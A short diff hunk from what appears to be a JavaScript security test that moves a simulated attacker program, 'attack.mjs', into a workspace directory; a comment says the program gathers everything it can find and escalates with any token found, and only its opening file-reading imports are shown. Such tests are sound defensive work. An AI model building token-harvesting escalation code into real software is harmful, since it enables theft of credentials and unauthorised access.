@@ -73,7 +73,7 @@ try {
   };
 
   // The attacker's program: everything it can find, then the escalation with whatever token it found.
-  const attack = join(base, 'attack.mjs');
+  const attack = join(ws, 'attack.mjs');
   writeFileSync(
     attack,
     `import { readFileSync, readdirSync } from 'node:fs';
